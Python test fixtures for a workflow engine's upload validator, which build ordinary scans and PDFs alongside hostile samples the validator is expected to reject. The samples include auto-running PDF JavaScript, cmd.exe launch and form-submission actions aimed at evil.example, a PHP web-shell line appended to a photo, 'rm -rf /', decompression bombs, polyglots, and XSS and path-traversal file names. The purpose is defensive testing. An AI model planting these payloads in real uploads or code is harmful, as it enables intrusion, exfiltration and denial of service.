"""Files as people bring them, and as people should not be able to: each made here, none from a stranger."""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import ExifTags, Image

from engine.package import Package
from tests.support import choice, diagram, form, form_of, package, zipped

Change = Callable[[Pdf], None]


def pdf(words: str = "Surat keterangan dokter", change: Change | None = None, **saving: Any) -> bytes:
    """A PDF of one page that says these words."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(420, 595))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
    page.Contents = document.make_stream(f"BT /F1 18 Tf 40 520 Td ({words}) Tj ET".encode())
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, deterministic_id="encryption" not in saving, **saving)
    return out.getvalue()


def photo(kind: str = "JPEG", size: tuple[int, int] = (320, 240), colour: str = "#2b7a78", **saving: Any) -> bytes:
    """A picture, as a phone or a scanner makes one."""
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, kind, **saving)
    return out.getvalue()


def camera_photo() -> bytes:
    """A photo with all that a camera writes beside it: how it was held, when, where, and how densely it is to print."""
    about = Image.Exif()
    about[ExifTags.Base.Make], about[ExifTags.Base.Orientation] = "Kamera", 6
    about[ExifTags.Base.XResolution], about[ExifTags.Base.ResolutionUnit] = 72.0, 2
    about.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (2.0, 12.0, 30.0)
    taken = photo(exif=about)
    head = taken.index(b"\xff\xe0")
    return taken[:head] + taken[head + 2 + int.from_bytes(taken[head + 2 : head + 4]) :]  # cameras write no JFIF


def grey() -> bytes:
    """A scan without colours."""
    out = io.BytesIO()
    Image.new("L", (320, 240), 200).save(out, "JPEG", dpi=(300, 300))
    return out.getvalue()


def burst() -> bytes:
    """A photo with a second one behind it, as phones with two lenses make them (MPO)."""
    out = io.BytesIO()
    first, second = (Image.new("RGB", (320, 240), colour) for colour in ("#2b7a78", "#def2f1"))
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def noise(size: tuple[int, int], quality: int = 95) -> bytes:
    """A picture that compresses as badly as a real photo."""
    out = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGB").save(out, "JPEG", quality=quality)
    return out.getvalue()


def _opens(**action: Any) -> Change:
    """An action when the document is opened."""

    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return change


def _named_script(document: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _script_in_stream(document: Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.JavaScript, JS=document.make_stream(b"x()")))


def _carries(document: Pdf) -> None:
    document.attachments["tagihan.exe"] = b"MZ"


def _carries_on_page(document: Pdf) -> None:
    held = Dictionary(F=document.make_stream(b"MZ"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    note.FS = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=held)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _dynamic_form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _script_of_a_field(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]))
    field.AA = Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("x()")))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _signed_form(document: Pdf) -> None:
    """As a certified electronic signature leaves it: a form field, and nothing that acts."""
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("0" * 40))
    field = Dictionary(FT=Name.Sig, T=String("ttd"), V=document.make_indirect(value))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), SigFlags=3)
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def _opens_when_closed(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def _link(document: Pdf) -> None:
    """A link that somebody has to follow, as office programs make of every address."""
    action = Dictionary(S=Name.URI, URI=String("https://dukcapil.kemendagri.go.id/"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _picture_of(width: int, height: int) -> Change:
    """A picture of so many pixels on the page; its rows are zeros."""

    def change(document: Pdf) -> None:
        about = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": width, "/Height": height}
        about |= {"/BitsPerComponent": 1, "/ColorSpace": Name.DeviceGray, "/Filter": Name.FlateDecode}
        drawn = document.make_stream(zlib.compress(bytes(1_000)), about)
        document.pages[0].Resources.XObject = Dictionary(I1=drawn)

    return change


COMPRESSED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}
"""Objects lie packed in streams, where no search of the bytes finds them."""


def _escaped(content: bytes) -> bytes:
    """The same with a letter of each name written as a number."""
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def _added_to(content: bytes) -> bytes:
    """A script in an older state of the file, which a later one no longer names."""
    return content.replace(b"%%EOF", b"%%EOF\n9 0 obj\n<< /S /JavaScript /JS (x()) >>\nendobj\n")


def _commented(content: bytes) -> bytes:
    """A page in a comment of a PDF."""
    return content.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)


def zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros, packed (zlib): one block that repeats, so that making it takes no time."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (megabytes * 2**20 % 65_521) << 16 | 1
    return b"\x78\xda" + block * megabytes + zlib.compressobj(wbits=-15).flush() + struct.pack(">I", checksum)


def many_scans() -> bytes:
    """A photo that draws all its pixels again and again."""
    plain = photo(size=(5_000, 5_000), progressive=True, quality=10)
    last = plain.rfind(b"\xff\xda")
    return plain[:last] + plain[last:-2] * 900 + plain[-2:]


def png_of(width: int, height: int) -> bytes:
    """A PNG that claims these pixels; its rows are zeros, a thousandth of their size when packed."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zeros((width // 8 + 1) * height // 2**20 + 1)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def packed_bomb() -> bytes:
    """A PDF whose objects lie in a stream that is a thousand times as large when unpacked."""
    body = zeros(1_500)
    catalog = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    pages = b"2 0 obj\n<</Type/Pages/Kids[5 0 R]/Count 1>>\nendobj\n"
    packed = b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    packed += body + b"\nendstream\nendobj\n"
    before = catalog + pages + packed
    places = [(0, 0), (1, 9), (1, len(catalog)), (1, len(catalog + pages)), (1, len(before)), (2, 3)]
    index = b"".join(struct.pack(">BIB", kind, place, 0) for kind, place in places)
    table = b"4 0 obj\n<</Type/XRef/W[1 4 1]/Size 6/Root 1 0 R/Length %d>>stream\n" % len(index)
    return before + table + index + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(before)


def sick_note() -> Package:
    """A process whose first step asks for a letter and offers bills, and whose second may add proof."""
    nodes = {"begin": "startEvent", "ask": "userTask", "check": "userTask", "choose": "exclusiveGateway"}
    drawn = diagram(
        {**nodes, "done": "endEvent"},
        ["begin ask", "ask check", "check choose", 'choose ask | check.outcome = "repair"', "choose done | default"],
        lanes={"requester": ["begin", "ask"], "personnel_officer": ["check", "choose", "done"]},
        inside={step: form_of(step) for step in ("ask", "check")},
    )
    picker = {"type": "filepicker", "label": "Surat dokter", "validate": {"required": True}}
    many = {"type": "filepicker", "label": "Kuitansi", "multiple": True}
    proof = {"type": "filepicker", "label": "Bukti", "accept": ".pdf"}
    about = {"label": "Alasan", "validate": {"required": True}}
    line = {"id": "scan", "key": "scan", "label": "Pindaian", "type": "filepicker"}
    lines = {"type": "dynamiclist", "path": "lines", "label": "Lampiran lain", "components": [line]}
    outcome = {**choice("complete", "repair"), "label": "Hasil"}
    files = {
        "ask.form": form(reason=about, letter=picker, bills=many, lines=lines),
        "check.form": form(outcome=outcome, proof=proof),
    }
    return package(drawn, key="sick", title="Izin sakit", title_en="Sick note", reference="SAKIT", files=files)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"

GOOD: dict[str, tuple[str, bytes, str]] = {
    "a PDF": ("surat dokter.pdf", pdf(), "surat dokter.pdf"),
    "a packed PDF": ("surat.pdf", pdf(**COMPRESSED), "surat.pdf"),
    "a signed PDF": ("surat bsre.pdf", pdf(change=_signed_form), "surat bsre.pdf"),
    "a PDF with a link": ("kk.pdf", pdf(change=_link, **COMPRESSED), "kk.pdf"),
    "a PDF of a large scan": ("ijazah.pdf", pdf(change=_picture_of(7_016, 9_921)), "ijazah.pdf"),
    "a photo": ("IMG_2031.JPEG", photo(), "IMG_2031.jpg"),
    "a progressive photo": ("foto.jpg", photo(progressive=True), "foto.jpg"),
    "a photo of a camera": ("DSC_0001.JPG", camera_photo(), "DSC_0001.jpg"),
    "a photo of two lenses": ("MPO.jpg", burst(), "MPO.jpg"),
    "a scan in shades of grey": ("Scan.jpg", grey(), "Scan.jpg"),
    "a screenshot": ("Tangkapan Layar.png", photo("PNG"), "Tangkapan Layar.png"),
    "a photo that bears the name of a PDF": ("surat.pdf", photo(), "surat.jpg"),
    "a photo with a film behind it": ("MVIMG.jpg", photo() + b"\0\0\0\x18ftypmp42" + bytes(200), "MVIMG.jpg"),
}
"""The name that was sent, the content, the name under which it is kept."""

ACTIVE: dict[str, bytes] = {
    "a script on opening": pdf(change=_opens(S=Name.JavaScript, JS=String("app.alert(1)"))),
    "a script on opening, packed": pdf(change=_opens(S=Name.JavaScript, JS=String("x()")), **COMPRESSED),
    "a named script": pdf(change=_named_script, **COMPRESSED),
    "a script in a stream": pdf(change=_script_in_stream, **COMPRESSED),
    "a script with an escaped name": _escaped(pdf(change=_named_script)),
    "a script in an older state": _added_to(pdf()),
    "a script of a field": pdf(change=_script_of_a_field, **COMPRESSED),
    "a program that it starts": pdf(change=_opens(S=Name.Launch, F=String("cmd.exe")), **COMPRESSED),
    "a share that it opens": pdf(change=_opens(S=Name.GoToR, F=String(r"\\evil\a"), D=Array([0, Name.Fit]))),
    "a page that it opens": pdf(change=_opens(S=Name.URI, URI=String("http://evil.example")), **COMPRESSED),
    "a page that it opens when it is closed": pdf(change=_opens_when_closed, **COMPRESSED),
    "a form that it sends": pdf(change=_opens(S=Name.SubmitForm, F=String("http://evil.example")), **COMPRESSED),
    "a file in it": pdf(change=_carries, **COMPRESSED),
    "a file on a page": pdf(change=_carries_on_page, **COMPRESSED),
    "a dynamic form": pdf(change=_dynamic_form, **COMPRESSED),
}
"""PDFs that do something by themselves."""

BAD: dict[str, tuple[str, bytes, str]] = {
    **{f"a PDF with {what}": ("a.pdf", content, "skrip atau berkas lain") for what, content in ACTIVE.items()},
    "nothing": ("kosong.pdf", b"", "kosong"),
    "a text": ("a.pdf", b"Surat dokter", "bukan PDF, JPG, atau PNG"),
    "a page": ("a.pdf", HTML, "bukan PDF, JPG, atau PNG"),
    "a drawing with a script": ("a.png", SVG, "bukan PDF, JPG, atau PNG"),
    "a script": ("a.jpg", b"#!/bin/sh\nrm -rf /\n", "bukan PDF, JPG, atau PNG"),
    "a program": ("a.pdf", b"MZ\x90\0" + bytes(500), "bukan PDF, JPG, atau PNG"),
    "an archive": ("a.pdf", zipped({"a.txt": b"a"}), "arsip"),
    "a document with macros": (
        "surat.docm",
        zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"x"}),
        "Simpan sebagai PDF",
    ),
    "a workbook with macros": (
        "gaji.pdf",
        zipped({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"x"}),
        "Simpan sebagai PDF",
    ),
    "an open document": (
        "surat.pdf",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/script.xml": b"x"}),
        "Simpan sebagai PDF",
    ),
    "an old document with macros": (
        "surat.pdf",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "Simpan sebagai PDF",
    ),
    "a photo of an iPhone": ("IMG.jpg", b"\0\0\0\x20ftypheic" + bytes(200), "Simpan sebagai JPG"),
    "an animation": ("a.png", b"GIF89a" + bytes(40), "Simpan sebagai JPG"),
    "a PDF behind a page": ("a.pdf", HTML + pdf(), "bukan PDF, JPG, atau PNG"),
    "a PDF that is a page as well": (
        "a.pdf",
        _commented(pdf()),
        "jenis berkas lain",
    ),
    "a PDF that is an archive as well": ("a.pdf", pdf() + zipped({"a.class": b"x"}), "jenis berkas lain"),
    "a photo that is an archive as well": ("a.jpg", photo() + zipped({"a.class": b"x"}), "jenis berkas lain"),
    "a photo that is a PDF as well": ("a.jpg", photo(comment=b"%PDF-1.7"), "jenis berkas lain"),
    "a photo with a packed archive behind it": (
        "a.jpg",
        photo() + b"Rar!\x1a\x07\x01\0" + bytes(99),
        "jenis berkas lain",
    ),
    "a PDF that a browser might take for a page": (
        "a.pdf",
        pdf().replace(b"\n", b"\n%<img src=x onerror=alert(1)>\n", 1),
        "jenis berkas lain",
    ),
    "an animation that is an archive as well": ("a.gif", b"GIF89a" + bytes(40) + zipped({"a.class": b"x"}), "JPG"),
    "a drawing packed": ("a.svg", gzip.compress(SVG), "arsip"),
    "a photo with a page in its comment": ("a.jpg", photo(comment=HTML), "jenis berkas lain"),
    "a photo with a program behind it": ("a.jpg", photo() + b"<?php system($_GET[0]); ?>", "jenis berkas lain"),
    "a picture with a drawing behind it": ("a.png", photo("PNG") + SVG, "jenis berkas lain"),
    "a PDF with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "kata sandi"),
    "a PDF that forbids printing": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="")), "kata sandi"),
    "half a photo": ("a.jpg", noise((400, 300))[:20_000], "rusak"),
    "half a picture": ("a.png", photo("PNG", (800, 600))[:200], "rusak"),
    "a PDF of its first line": ("a.pdf", b"%PDF-1.7\n", "rusak"),
    "a photo of its first bytes": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(100), "rusak"),
    "a picture of 900 million pixels": ("a.png", png_of(30_000, 30_000), "juta piksel"),
    "a PDF that unpacks to 1.5 GB": ("a.pdf", packed_bomb(), "rusak"),
    "a PDF with a picture of 900 million pixels": ("a.pdf", pdf(change=_picture_of(30_000, 30_000)), "terlalu rumit"),
    "a photo of 900 layers": ("a.jpg", many_scans(), "terlalu rumit"),
    "six megabytes": ("a.jpg", photo() + bytes(6 * 2**20), "lebih besar dari 5 MB"),
}
"""The name that was sent, the content, words of the reason."""

NAMES: dict[str, str] = {
    "../../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\system32\\cmd.exe": "cmd.exe.pdf",
    "/etc/shadow.pdf": "shadow.pdf",
    "surat\x00.php\x00.pdf": "surat.php.pdf",
    "surat\r\nContent-Type: text-html.pdf": "suratContent-Type_ text-html.pdf",
    "gaji\u202efdp.exe": "gajifdp.exe.pdf",
    "<img src=x onerror=alert(1)>.svg": "_img src=x onerror=alert(1)_.svg.pdf",
    'a";filename="b.html.pdf': "a_;filename=_b.html.pdf",
    "": "dokumen.pdf",
    "....": "dokumen.pdf",
    ".pdf": "pdf.pdf",
    "kk.pdf.svg": "kk.pdf.svg.pdf",
    "akta.html": "akta.html.pdf",
    "javascript:alert(1).pdf": "javascript_alert(1).pdf",
    "%2e%2e%2fktp.pdf": "_2e_2e_2fktp.pdf",
    "Surat Sakit (2).PDF": "Surat Sakit (2).pdf",
    "surat\u200b\u2066dokter\u2069.pdf": "suratdokter.pdf",
    "x" * 500 + ".pdf": "x" * 100 + ".pdf",
}
"""What is sent as a name, and what it is kept as."""
